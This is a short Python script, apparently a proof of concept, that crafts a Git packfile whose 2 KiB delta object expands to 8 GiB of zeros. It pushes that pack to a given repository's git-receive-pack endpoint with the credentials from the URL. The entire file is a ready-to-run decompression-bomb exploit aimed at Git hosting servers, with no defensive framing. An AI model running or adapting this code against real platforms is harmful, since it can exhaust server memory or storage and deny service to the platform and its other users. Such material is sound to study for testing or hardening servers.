#!/usr/bin/env python3
"""Pushes a pack that no git client would make: a delta of 2 KiB whose result is 8 GiB of zeros.

  delta_bomb.py URL    URL: of the repository, with user and password; prints what the platform answers
"""
import base64
import hashlib
import struct
import sys
import urllib.parse
import urllib.request
import zlib

BASE = bytes(8 << 20)
COPIES = 1024
REF_DELTA, BLOB = 7, 3
CAPABILITIES = "report-status side-band-64k agent=git/2.39.5"


def little_endian_size(value: int) -> bytes:
    """A size in a delta: seven bits a byte, the lowest first."""
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def packed(kind: int, size: int, rest: bytes) -> bytes:
    """An object of a pack (gitformat-pack(5)): its type, the size of what is deflated, and that."""
    first, size = kind << 4 | size & 15, size >> 4
    return (bytes([first | 128]) + little_endian_size(size) if size else bytes([first])) + rest


def pack_of_delta() -> bytes:
    base_id = hashlib.sha1(b"blob %d\0" % len(BASE) + BASE).digest()
    copy_all = bytes([0x80 | 0x40, 0x80])  # from 0, 0x800000 bytes: only the third byte of the size is not 0
    delta = little_endian_size(len(BASE)) + little_endian_size(len(BASE) * COPIES) + copy_all * COPIES
    body = packed(BLOB, len(BASE), zlib.compress(BASE))
    body += packed(REF_DELTA, len(delta), base_id + zlib.compress(delta))
    pack = b"PACK" + struct.pack(">II", 2, 2) + body
    return pack + hashlib.sha1(pack).digest()


def pkt_line(text: bytes) -> bytes:
    return b"%04x" % (len(text) + 4) + text


def main() -> None:
    url = urllib.parse.urlsplit(sys.argv[1])
    command = f"{'0' * 40} {'1' * 40} refs/heads/master\0{CAPABILITIES}"
    login = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
    request = urllib.request.Request(
        f"{url.scheme}://{url.hostname}:{url.port}{url.path}/git-receive-pack",
        data=pkt_line(command.encode()) + b"0000" + pack_of_delta(),
        headers={"Content-Type": "application/x-git-receive-pack-request", "Authorization": f"Basic {login}"},
    )
    with urllib.request.urlopen(request, timeout=100) as answer:
        print(answer.read().decode(errors="replace"))


main()
